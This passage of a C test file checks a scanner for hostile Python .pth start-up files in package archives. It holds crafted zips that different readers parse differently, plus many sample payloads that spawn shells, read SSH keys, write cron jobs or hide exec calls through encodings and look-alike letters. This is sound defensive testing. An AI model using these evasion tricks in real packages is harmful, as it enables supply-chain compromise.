		{"number of the disk", 18, 1}, {"disk of the directory", 16, 1}, {"entries on this disk", 14, 1}, {"entries", 12, 9},
		{"length of the directory", 10, 3}, {"place of the directory", 6, 1}, {"signature", 22, 'Q'},
	};
	const struct member m[] = {MEMBER("a.txt", "x = 1\n"), MEMBER("b.txt", "y = 1\n")}, evil = MEMBER("evil.pth", evil_line);
	struct buf b = {0}, cut = {0};
	size_t files, end;

	(void)state;
	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, m, 2);
	assert_int_equal(check_archive("x.whl", &b, NULL, &files), 0);
	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++) {
		char *at = b.data + b.rd + buf_len(&b) - t[i].back, old = *at;

		*at = (char)t[i].value;
		if (check_archive("x.whl", &b, NULL, &files) != L(PTH_LIMIT))
			fail_msg("%s: passed", t[i].what);
		*at = old;
	}
	/* a decoy before the last file, where a reader of headers stops; the directory is that of a second disk */
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, m, 1);
	end = (size_t)((char *)memmem(buf_ptr(&b), buf_len(&b), "PK\1\2", 4) - b.data) - b.rd;
	buf_add(&cut, buf_ptr(&b), end);
	buf_adds(&cut, "PK\1\2");
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &evil, 1);
	buf_add(&cut, buf_ptr(&b), buf_len(&b));
	assert_int_equal(check_archive("x.whl", &cut, NULL, &files), L(PTH_LIMIT));
	/* a comment is none of our business, and one that says it's another directory is */
	buf_add(&b, "no comment", 10);
	b.data[b.rd + buf_len(&b) - 12] = 10;
	assert_true(check_archive("x.whl", &b, NULL, &files) & L(PTH_PROCESS));
	buf_add(&b, "PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 22);
	assert_int_equal(check_archive("x.whl", &b, NULL, &files), L(PTH_LIMIT));
	buf_free(&b);
	buf_free(&cut);
}

/* --- zips and more that readers disagree about ------------------------------------------------------------ */

static void
put(struct buf *b, uint64_t v, size_t n)
{
	for (; n > 0; n--, v >>= 8)
		buf_addc(b, (char)(v & 0xff));
}

struct zip_entry {
	const char	*head, *name;	/* before the file, in the directory */
	const char	*unicode;	/* 0x7075 in the directory; NULL: none */
	const char	*comment;
	const char	*data;
	size_t		 len;
	unsigned	 method, size_off, plain_off, sum_off;	/* of the header before the file: added to what is true */
	bool		 later, nought;	/* there: sizes follow the file, and are nought */
	uint32_t	 attributes;
	bool		 wide;		/* place and size in the zip64 field */
};

static void
zip_header(struct buf *b, const struct zip_entry *e)
{
	buf_add(b, "PK\3\4\24\0", 6);
	put(b, e->later ? 8 : 0, 2);
	put(b, e->method, 2);
	put(b, 0, 4);
	put(b, e->nought ? 0 : crc32(0, (const Bytef *)e->data, (uInt)e->len) + e->sum_off, 4);
	put(b, e->nought ? 0 : e->len + e->size_off, 4);
	put(b, e->nought ? 0 : e->len + e->plain_off, 4);
	put(b, strlen(e->head), 2);
	put(b, 0, 2);
	buf_adds(b, e->head);
	buf_add(b, e->data, e->len);
}

static void
zip_entry(struct buf *b, const struct zip_entry *e, size_t at)
{
	size_t unicode = e->unicode != NULL ? 9 + strlen(e->unicode) : 0, comment = e->comment != NULL ? strlen(e->comment) : 0;

	buf_add(b, "PK\1\2\24\0\24\0\0\0\0\0\0\0\0\0", 16);
	put(b, crc32(0, (const Bytef *)e->data, (uInt)e->len), 4);
	put(b, e->wide ? UINT32_MAX : e->len, 4);
	put(b, e->len, 4);
	put(b, strlen(e->name), 2);
	put(b, unicode + (e->wide ? 20 : 0), 2);
	put(b, comment, 2);
	put(b, 0, 4);
	put(b, e->attributes, 4);
	put(b, e->wide ? UINT32_MAX : at, 4);
	buf_adds(b, e->name);
	if (e->wide) {
		put(b, 16 << 16 | 1, 4);
		put(b, e->len, 8);
		put(b, at, 8);
	}
	if (unicode > 0) {
		put(b, (unicode - 4) << 16 | 0x7075, 4);
		put(b, 1, 1);
		put(b, crc32(0, (const Bytef *)e->name, (uInt)strlen(e->name)), 4);
		buf_adds(b, e->unicode);
	}
	if (comment > 0)
		buf_adds(b, e->comment);
}

/* <skip>: bytes before the first header, which the directory knows of. */
static void
zip(struct buf *b, size_t skip, const struct zip_entry *e, size_t n)
{
	size_t at[4], dir, end;

	buf_clear(b);
	buf_add(b, "PK00PK00", skip);
	for (size_t i = 0; i < n; i++) {
		at[i] = buf_len(b);
		zip_header(b, &e[i]);
	}
	dir = buf_len(b);
	for (size_t i = 0; i < n; i++)
		zip_entry(b, &e[i], at[i]);
	end = buf_len(b);
	buf_add(b, "PK\5\6\0\0\0\0", 8);
	put(b, n, 2);
	put(b, n, 2);
	put(b, end - dir, 4);
	put(b, dir, 4);
	put(b, 0, 2);
}

#define NAMED(h, n)	.head = h, .name = n, .data = evil_line, .len = sizeof(evil_line) - 1
#define ENTRY(n)	NAMED(n, n)

static void
test_zip_doubts(void **state)
{
	static const struct { const char *what; size_t skip; bool doubt; struct zip_entry e; } t[] = {
		{"nothing", 0, false, {ENTRY("a.txt")}}, {"zip64", 0, false, {ENTRY("a.txt"), .wide = true}},
		{"bytes before the first file", 4, true, {ENTRY("a.txt")}}, {"and more", 8, true, {ENTRY("a.txt")}},
		{"two names", 0, true, {NAMED("b.txt", "a.txt")}}, {"two of them longer", 0, true, {NAMED("evil.pth", "a.txt")}},
		{"two methods", 0, true, {ENTRY("a.txt"), .method = 8}}, {"two sizes", 0, true, {ENTRY("a.txt"), .size_off = 5}},
		{"another size before the file", 0, true, {ENTRY("a.txt"), .plain_off = 5}}, {"another checksum", 0, true, {ENTRY("a.txt"), .sum_off = 1}},
		{"sizes that follow the file", 0, false, {ENTRY("a.txt"), .later = true, .nought = true}},
		{"sizes that are said twice", 0, false, {ENTRY("a.txt"), .later = true}},
		{"a shorter one than follows", 0, true, {ENTRY("a.txt"), .later = true, .size_off = -9U, .plain_off = -9U}},
		{"nought, and nothing follows", 0, true, {ENTRY("a.txt"), .nought = true}},
		{"a folder of DOS with a file in it", 0, true, {ENTRY("evil.pth"), .attributes = 0x10}},
		{"a folder of Unix with a file in it", 0, true, {ENTRY("evil.pth"), .attributes = 040755U << 16}},
		{"a file of Unix", 0, false, {ENTRY("a.txt"), .attributes = 0100644U << 16}},
		{"another name in Unicode", 0, true, {ENTRY("a.txt"), .unicode = "evil.pth"}},
		{"and the other way round", 0, true, {ENTRY("evil.pth"), .unicode = "a.txt"}},
		{"and beyond ASCII", 0, true, {ENTRY("\x82.pth"), .unicode = "\xc3\xa9.txt"}},
		{"a customizer in Unicode", 0, true, {ENTRY("sitecustomize.py"), .unicode = "setup.py"}},
		{"the same name in Unicode", 0, false, {ENTRY("\x82.txt"), .unicode = "\xc3\xa9.txt"}},
		{"a customizer beyond ASCII", 0, true, {ENTRY("\x82.py"), .unicode = "sitecustomize.py"}},
		{"a folder beyond ASCII", 0, true, {ENTRY("\x82/x.py"), .unicode = "sitecustomize/__init__.py"}},
		{"one folder more", 0, true, {ENTRY("\x82.py"), .unicode = "\xc3\xa9/\xc3\xa9.py"}},
		{"the same in folders", 0, false, {ENTRY("d/\x82/a.py"), .unicode = "d/\xc3\xa9/a.py"}},
		{"escaped by Info-ZIP", 0, false, {ENTRY("d/#U00e9.py"), .unicode = "d/\xc3\xa9.py"}},
		{"a control character in Unicode", 0, true, {ENTRY("\x82.py"), .unicode = "\xc3\xa9\1.py"}},
		{"a control character", 0, true, {ENTRY("x.pth\n")}}, {"and another", 0, true, {ENTRY("x\x7f.py")}}, {"of macOS", 0, false, {ENTRY("d/Icon\r")}},
		{"the same name twice", 0, false, {ENTRY("a.txt"), .unicode = "a.txt"}},
		{"an end record in a comment", 0, true, {ENTRY("a.txt"), .comment = "PK\5\6"}},
	};
	struct buf b = {0};
	size_t files;

	(void)state;
	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++) {
		zip(&b, t[i].skip, &t[i].e, 1);
		if (check_archive("x.zip", &b, NULL, &files) != (t[i].doubt ? L(PTH_LIMIT) : 0))
			fail_msg("%s: %x", t[i].what, check_archive("x.zip", &b, NULL, &files));
	}
	buf_free(&b);
}

/* Two end records: a zip in front of another, one inside a file, one in the comment. */
static void
test_zip_two_ends(void **state)
{
	struct zip_entry a = {ENTRY("a.txt")}, evil = {ENTRY("evil.pth")}, nest = {.head = "n.zip", .name = "n.zip"};
	struct buf one = {0}, two = {0}, b = {0};
	size_t files, n, dir;

	(void)state;
	zip(&one, 0, &a, 1);
	zip(&two, 0, &evil, 1);
	buf_add(&b, buf_ptr(&one), buf_len(&one));
	buf_add(&b, buf_ptr(&two), buf_len(&two));
	assert_int_equal(check_archive("x.zip", &b, NULL, &files), L(PTH_LIMIT));
	/* the second directory speaks of the whole file, and of its first entry */
	n = buf_len(&one);
	buf_clear(&b);
	buf_add(&b, buf_ptr(&one), n);
	dir = n;
	zip_entry(&b, &a, 0);
	buf_add(&b, "PK\5\6\0\0\0\0\1\0\1\0", 12);
	put(&b, buf_len(&b) - 12 - dir, 4);
	put(&b, dir, 4);
	put(&b, 0, 2);
	assert_int_equal(check_archive("x.zip", &b, NULL, &files), L(PTH_LIMIT));
	/* two entries for one file */
	buf_clear(&b);
	zip_header(&b, &a);
	dir = buf_len(&b);
	for (int i = 0; i < 2; i++)
		zip_entry(&b, &a, 0);
	n = buf_len(&b) - dir;
	buf_add(&b, "PK\5\6\0\0\0\0\2\0\2\0", 12);
	put(&b, n, 4);
	put(&b, dir, 4);
	put(&b, 0, 2);
	assert_int_equal(check_archive("x.zip", &b, NULL, &files), L(PTH_LIMIT));
	/* an archive inside that isn't packed has its own */
	nest.data = buf_ptr(&one);
	nest.len = buf_len(&one);
	zip(&b, 0, &nest, 1);
	assert_int_equal(check_archive("x.whl", &b, NULL, &files), 0);
	nest.data = buf_ptr(&two);
	nest.len = buf_len(&two);
	zip(&b, 0, &nest, 1);
	assert_true(check_archive("x.whl", &b, NULL, &files) & L(PTH_PROCESS));
	buf_free(&one);
	buf_free(&two);
	buf_free(&b);
}

static void
test_two_archives(void **state)
{
	static const struct { int format, filter; } front[] = {{ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE},
		{ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP}, {ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE}, {ARCHIVE_FORMAT_CPIO_POSIX, ARCHIVE_FILTER_NONE}};
	static const char *const names[] = {"x.whl", "x.tar.gz", "x.tar", "x.bin"};
	const struct member m = MEMBER("a.txt", "x = 1\n");
	struct zip_entry evil = {ENTRY("evil.pth")}, fine = {ENTRY("good.txt")};
	struct buf b = {0}, z = {0};
	struct member nest = {"v/z.zip", NULL, 0};
	size_t files;

	(void)state;
	zip(&z, 0, &evil, 1);
	for (size_t i = 0; i < sizeof(front) / sizeof(*front); i++)
		for (size_t k = 0; k < sizeof(names) / sizeof(*names); k++) {
			buf_clear(&b);
			pack(&b, front[i].format, front[i].filter, &m, 1);
			buf_add(&b, buf_ptr(&z), buf_len(&z));
			if (check_archive(names[k], &b, NULL, &files) != L(PTH_LIMIT))
				fail_msg("%zu %s: passed", i, names[k]);
		}
	/* what only Python takes: of several disks, or the large kind whose end record says nothing */
	for (size_t i = 0; i < 2; i++) {
		char *end;

		buf_clear(&b);
		pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, &m, 1);
		if (i == 0)
			buf_add(&b, buf_ptr(&z), buf_len(&z));
		else {
			buf_add(&b, buf_ptr(&z), buf_len(&z) - 22);
			buf_add(&b, "PK\6\7\0\0\0\0\0\0\0\0\0\0\0\0\1\0\0\0", 20);
			buf_add(&b, buf_ptr(&z) + buf_len(&z) - 22, 22);
		}
		end = b.data + b.rd + buf_len(&b) - 22;
		memset(end + (i == 0 ? 4 : 12), i == 0 ? 1 : 0xff, i == 0 ? 1 : 8);
		assert_int_equal(check_archive("x-1.tar.gz", &b, NULL, &files), L(PTH_LIMIT));
	}
	/* between the end of a tar and its padding: pip's unpacker sees a zip */
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, &m, 1);
	buf_add(&b, buf_ptr(&z), buf_len(&z));
	for (int i = 0; i < 600; i++)
		buf_addc(&b, 0);
	assert_true(check_archive("x-1.tar", &b, NULL, &files) & L(PTH_PROCESS));
	assert_int_equal(check_archive("x-1.whl", &b, NULL, &files), L(PTH_LIMIT));
	/* the last member of a tar may be a zip */
	zip(&z, 0, &fine, 1);
	nest.data = buf_ptr(&z);
	nest.len = buf_len(&z);
	buf_clear(&b);
	pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, &nest, 1);
	assert_int_equal(check_archive("x-1.tar", &b, NULL, &files), 0);
	buf_free(&b);
	buf_free(&z);
}

/* What an installer may make something of although libarchive can't: not skipped. */
static void
test_nested_broken(void **state)
{
	struct zip_entry evil = {NAMED("fine.txt", "evil.pth")};
	const struct member m = MEMBER("a.txt", "x = 1\n");
	struct buf z = {0}, b = {0};
	struct member nest = {"v/data.bin", NULL, 0};
	size_t files;

	(void)state;
	for (int i = 0; i < 6; i++) {
		buf_clear(&z);
		if (i == 0)
			zip(&z, 0, &evil, 1);
		else if (i == 1) {
			pack(&z, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &m, 1);
			z.len -= 30;
		} else if (i == 2) {
			pack(&z, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, &m, 1);
			z.len -= 12;
		} else if (i == 3) {
			pack(&z, ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, &m, 1);
			z.len -= 10;
		} else if (i == 4)
			buf_adds(&z, "!<arch>\n//              0           0     0     0       9         `\na library of Windows");
		else
			buf_adds(&z, "\x1f\x9d\x90 two bytes that only look like something");
		nest.data = buf_ptr(&z);
		nest.len = buf_len(&z);
		buf_clear(&b);
		pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, &nest, 1);
		if (check_archive("p-1.0.tar.gz", &b, NULL, &files) != (i == 0 ? L(PTH_LIMIT) : i < 4 ? L(PTH_UNREADABLE) : 0))
			fail_msg("case %d", i);
		nest.name = "v/data.whl";	/* that one is for Python */
		buf_clear(&b);
		pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, &nest, 1);
		if (i < 4 && check_archive("p-1.0.tar.gz", &b, NULL, &files) != L(PTH_LIMIT))
			fail_msg("wheel, case %d", i);
		nest.name = "v/data.bin";
	}
	buf_free(&z);
	buf_free(&b);
}

/* A file that can't be read may be an archive: it's told, and hides nothing behind it. */
static void
test_unreadable(void **state)
{
	struct zip_entry locked = {ENTRY("a.bin")}, all[4], evil = {ENTRY("evil.pth")};
	struct buf z = {0}, b = {0};
	struct member m[PTH_FINDINGS + 2];
	static char names[PTH_FINDINGS + 1][8];
	size_t files;

	(void)state;
	for (int i = 0; i < 3; i++)
		all[i] = locked;
	all[3] = evil;
	zip(&z, 0, all, 4);
	for (size_t at = 0; at + 46 < buf_len(&z); at++) {	/* a method that nobody knows, of all but the last */
		char *p = z.data + z.rd + at;

		if (memcmp(p, "PK\3\4", 4) == 0 && p[30] == 'a')
			p[8] = 77;
		else if (memcmp(p, "PK\1\2", 4) == 0 && p[46] == 'a')
			p[10] = 77;
	}
	assert_int_equal(check_archive("x.zip", &z, NULL, &files) & (L(PTH_UNREADABLE) | L(PTH_PROCESS)), L(PTH_UNREADABLE) | L(PTH_PROCESS));
	for (size_t i = 0; i <= PTH_FINDINGS; i++) {
		snprintf(names[i], sizeof(names[i]), "%zu.zip", i);
		m[i] = (struct member){names[i], "PK\3\4 and no more of it", 22};
	}
	m[PTH_FINDINGS + 1] = (struct member){"evil.pth", evil_line, sizeof(evil_line) - 1};
	pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, m, PTH_FINDINGS + 2);
	assert_true(check_archive("x.tar", &b, NULL, &files) & L(PTH_PROCESS));
	buf_free(&z);
	buf_free(&b);
}

/* Packed without getting smaller, a zip stands in a gzip as it is; and in the clear at the end of a .tar.gz. */
static void
test_stored(void **state)
{
	static char noise[150000];
	struct zip_entry e[2] = {{ENTRY("a.txt")}, {ENTRY("b.txt")}};
	struct buf z = {0}, b = {0};
	struct member m = {"v/z.bin", NULL, 0};
	uint32_t x = 1;
	size_t files;

	(void)state;
	for (size_t i = 0; i < sizeof(noise); i++) {
		x = x * 1664525 + 1013904223;
		noise[i] = (char)(x >> 24);
	}
	for (int evil = 0; evil < 2; evil++)
		for (int large = 0; large < 2; large++)
			for (int tar = 0; tar < 2; tar++) {
				e[1].head = e[1].name = evil ? "x.pth" : "b.txt";
				e[0].data = large ? noise : evil_line;
				e[0].len = large ? sizeof(noise) : sizeof(evil_line) - 1;
				zip(&z, 0, e, 2);
				m.data = buf_ptr(&z);
				m.len = buf_len(&z);
				buf_clear(&b);
				pack(&b, tar ? ARCHIVE_FORMAT_TAR_USTAR : ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, &m, 1);
				if (evil ? check_archive("x-1.tar.gz", &b, NULL, &files) == 0 : check_archive("x-1.tar.gz", &b, NULL, &files) != 0)
					fail_msg("evil %d large %d tar %d: %x", evil, large, tar, check_archive("x-1.tar.gz", &b, NULL, &files));
			}
	buf_free(&z);
	buf_free(&b);
}

/* --- what start-up files import --------------------------------------------------------------------------- */

#define IMPORT_P	"import payload\n"
static const struct imported {
	const char *pth;
	struct { const char *name, *data; } m[4];
	unsigned layers;
} imported_bad[] = {
	{IMPORT_P, {{"payload.py", "import os\nos.system('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload/__init__.py", "import os\nos.system('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload/__init__.py", "from . import core\n"}, {"payload/core.py", "import subprocess as s\ns.run(['id'])\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload/__init__.py", "from .core import go\ngo()\n"}, {"payload/core.py", "def go():\n\tfrom subprocess import call as c\n\tc('id')\n"}},
	    L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import helper\nhelper.Thing().go()\n"}, {"helper.py", "import os\nclass Thing:\n    def go(self):\n        os.popen('id')\n"}},
	    L(PTH_PROCESS)},
	{"import payload; payload.install()\n", {{"payload.py", "def install():\n    exec(open(__file__).read())\n"}}, L(PTH_EXEC)},
	{"import payload; payload.install()\n", {{"payload.py", "from helper import install\n"}, {"helper.py", "import socket\ndef install(): socket.create_connection(('x', 1))\n"}},
	    L(PTH_PROCESS)},
	{"import os; enabled = os.environ.get('X', 'local') == 'local'; enabled and __import__('payload').add_shim()\n",
	    {{"payload.py", "def add_shim():\n  import urllib.request\n  urllib.request.urlopen('http://x')\n"}}, L(PTH_PROCESS)},
	{"from payload import core\n", {{"payload/__init__.py", ""}, {"payload/core.py", "eval('1')\n"}}, L(PTH_EXEC)},
	{"from payload import x\n", {{"payload.py", "def __getattr__(n):\n    import os; os.execv('/bin/id', [])\n"}}, L(PTH_PROCESS)},
	{"import a.b.c\n", {{"a/__init__.py", ""}, {"a/b/__init__.py", ""}, {"a/b/c.py", "import ctypes\nctypes.CDLL('x')\n"}}, L(PTH_PROCESS)},
	{"import a.b.c\n", {{"a/__init__.py", "exec('1')"}, {"a/b/__init__.py", ""}, {"a/b/c.py", ""}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "class A:\n    import pty\n    pty.spawn('sh')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os\ndef deco(f): os.system('id')\n@deco\ndef f(): pass\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os\ndef f(): os.system('id')\nx = {'f': f}\nx['f']()\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os\ndef f(): os.system('id')\nglobals()['f']()\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os\ndef f(x=os.system('id')): pass\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os\nclass M(type):\n    def __new__(c, *a): os.system('id')\nclass A(metaclass=M): pass\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import sys, os\nclass F:\n    def find_spec(self, *a):\n        os.system('id')\nsys.meta_path.insert(0, F())\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import os\nn = 'metsys'[::-1]\ngetattr(os, n)('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import os\ngetattr(os, 'system')('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "getattr(__import__('os'), 'sys' 'tem')('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "n = 'x'\ngetattr(__import__('os'), n)('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "from os import *\nsystem('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "from os import (path,\n  system as path2)\npath2('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import json as m\nimport subprocess as m\nm.run('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "__import__('os').system('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import importlib as i\ni.import_module('helper')\n"}, {"helper.py", "exec('1')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "__import__('hel' + 'per')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "x = f\"{__import__('os').system('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import base64\nx = base64.b64decode('aWQ=')\n"}}, L(PTH_BLOB)},
	{IMPORT_P, {{"payload.py", "p = '~/.ssh/id_rsa'\n"}}, L(PTH_CREDENTIAL)},
	{IMPORT_P, {{"payload.py", "open('/etc/cron.d/x', 'w')\n"}}, L(PTH_PERSIST)},
	{IMPORT_P, {{"payload.py", "import sys\nsys.path.insert(0, '/tmp/x')\n"}}, L(PTH_PATH)},
	{IMPORT_P, {{"payload.py", "# coding: utf-7\n# +AAo-import os\n"}}, L(PTH_HIDDEN)},
	{IMPORT_P, {{"payload.py", "#!/usr/bin/python\n# -*- coding: rot13 -*-\nvzcbeg bf\n"}}, L(PTH_HIDDEN)},
	{IMPORT_P, {{"payload.cpython-311-x86_64-linux-gnu.so", "\x7f" "ELF"}}, L(PTH_LIMIT)},
	{IMPORT_P, {{"payload.py", ""}, {"payload.abi3.so", "\x7f" "ELF"}}, L(PTH_LIMIT)},	/* taken before the source */
	{IMPORT_P, {{"payload.pyc", "\xa7\x0d\x0d\x0a...."}}, L(PTH_LIMIT)},
	{IMPORT_P, {{"payload/__init__.pyc", "\xa7\x0d\x0d\x0a...."}}, L(PTH_LIMIT)},
	{IMPORT_P, {{"payload.py", ""}, {"__pycache__/payload.cpython-311.pyc", "\xa7\x0d\x0d\x0a\1...and a hash"}}, L(PTH_LIMIT)},
	{IMPORT_P, {{"payload.py", ""}, {"x-1.data/purelib/payload.py", "exec('1')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"some/where/deep/down/payload.py", "exec('1')\n"}}, L(PTH_EXEC)},
	{"lib/hidden\n" IMPORT_P, {{"lib/hidden/payload.py", "exec('1')\n"}}, L(PTH_EXEC)},
	{"import payload, trigger\n", {{"payload.py", "def run():\n    exec('1')\n"}, {"trigger.py", "from payload import run\nrun()\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import os\nvars(os)['sys' + 'tem']('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import os, operator\noperator.attrgetter('system')(os)('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import os\nos.__getattribute__('sys' 'tem')('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import typing\ndef f(x: \"__import__('os').system('id')\"): pass\ntyping.get_type_hints(f)\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import logging.config as l\nl.dictConfig({'handlers': {'h': {'()': 'os.system', 'command': 'id'}}})\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import pkgutil\npkgutil.resolve_name('os:sys' 'tem')('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import sys\nsys.modules['os'].system('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os as platform\nplatform.system('id')\n"}}, L(PTH_PROCESS)},
	/* spellings that a reader of lines would lose */
	{IMPORT_P, {{"payload.py", "def f():\n    pass\nif 1:\n  def g():\n      pass\n  \\\n        exec('1')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "def f(): pass; x = 1\nexec('1')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "\"\"\"def f():\n  '''\"\"\"\nexec('1') # '''\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "def f():\r  pass\rexec('1')\r"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "x = [\ndef_ := 1,\nexec('1')]\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "e = exec\ne('1')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import builtins\nbuiltins.exec('1')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "().__class__.__base__.__subclasses__()\n"}}, L(PTH_EXEC)},
	/* f-strings: what is text in them and what is code (PEP 498, 701, 750) */
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{'}' + s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{\"\" or s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{d:def}{s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{d:import a,}{s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{d:async def f:}{s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{d:'}{s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{d:#}{s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{d:{s.run('id')}}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{{{s.run('id')}}}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"\\{s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nf\"{f'{f\"{f'{f\"{f'{s.run(1)}'}\"}'}\"}'}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nt\"{s.run('id')}\"\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nx = f'{1 }' f\"{{{'{'}\"\ns.run('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "x = 'a\\\r\n'; exec('1') #'\r\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "# coding: mac-arabic\nx = 1 \xa3 exec('1')\n"}}, L(PTH_HIDDEN)},
	{IMPORT_P, {{"payload.py", "# coding: big5\nx = '\xa5\\'; exec('1') #'\n"}}, L(PTH_HIDDEN)},
	/* letters that Python takes for others (PEP 3131: NFKC) */
	{IMPORT_P, {{"payload.py", "import os\nos.\xf0\x9d\x93\xbc" "ystem('id')\n"}}, L(PTH_HIDDEN)},
	{IMPORT_P, {{"payload.py", "\xef\xbd\x85xec('1')\n"}}, L(PTH_HIDDEN)},
	{IMPORT_P, {{"payload.py", "import \xef\xbd\x93ubprocess as x\nx.run('id')\n"}}, L(PTH_HIDDEN)},
	{IMPORT_P, {{"payload.py", "import shutil\nshutil.os.spawnvp(0, 'id', [])\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import cProfile\ncProfile.run('import x')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import pkgutil as p\np.resolve_name('os:sys' + 'tem')('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import sys\nsys._getframe().f_builtins['ex' + 'ec']('1')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import logging.config as c\nc.dictConfig({'formatters': {'a': {'()': 'os.system'}}})\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import multiprocessing as m\nm.get_context().Process(target=print).start()\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os\nos.environ['LD_PRELOAD'] = '/x.so'\n"}}, L(PTH_PERSIST)},
	{IMPORT_P, {{"payload.py", "import site\nsite.addsitedir('/tmp/x')\n"}}, L(PTH_PATH)},
	{IMPORT_P, {{"payload.py", "import sys\nsys.modules['subprocess'].run('id')\n"}}, L(PTH_PROCESS)},
